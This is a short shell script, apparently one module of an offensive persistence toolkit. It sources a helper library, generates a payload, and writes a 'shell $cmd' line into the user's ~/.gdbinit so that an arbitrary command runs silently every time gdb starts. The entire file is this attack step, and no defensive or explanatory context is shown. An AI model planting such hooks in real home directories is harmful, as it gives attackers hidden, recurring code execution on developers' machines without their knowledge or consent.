#!/bin/sh
# gdbinit: a file that gdb runs (gdb(1))
. "${0%/*}/lib.sh"
payload
put "$home/.gdbinit" 644 "$head" "shell $cmd"
